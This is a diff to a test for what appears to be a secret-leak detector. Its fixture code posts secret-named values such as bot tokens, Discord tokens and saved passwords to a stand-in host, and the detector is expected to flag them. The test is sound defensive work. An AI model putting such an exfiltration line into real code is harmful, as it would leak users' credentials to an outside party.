@@ -592,8 +592,11 @@ def test_words_that_name_a_secret_and_words_that_do_not() -> None:
         "import requests\n"
         "def a(tokenizer, max_tokens, token_ids, monkey):\n"
         "    requests.post('https://h.example/x', json=[tokenizer, max_tokens, token_ids, monkey])\n"
-        "def b(accessKeySecret, botToken, token):\n"
-        "    requests.post('https://h.example/x', json=[accessKeySecret, botToken, token])\n"
+        "def b(accessKeySecret, botToken, token, discord_tokens, saved_passwords):\n"
+        "    requests.post('https://h.example/x',\n"
+        "                  json=[accessKeySecret, botToken, token, discord_tokens, saved_passwords])\n"
     )
     sent = [(f.location.line, f.args) for f in result.facts if f.kind is FactKind.SECRET_SENT]
-    assert sent == [(5, ("accessKeySecret", "botToken", "token"))]
+    assert sent == [
+        (5, ("accessKeySecret", "botToken", "discord_tokens", "saved_passwords", "token")),
+    ]
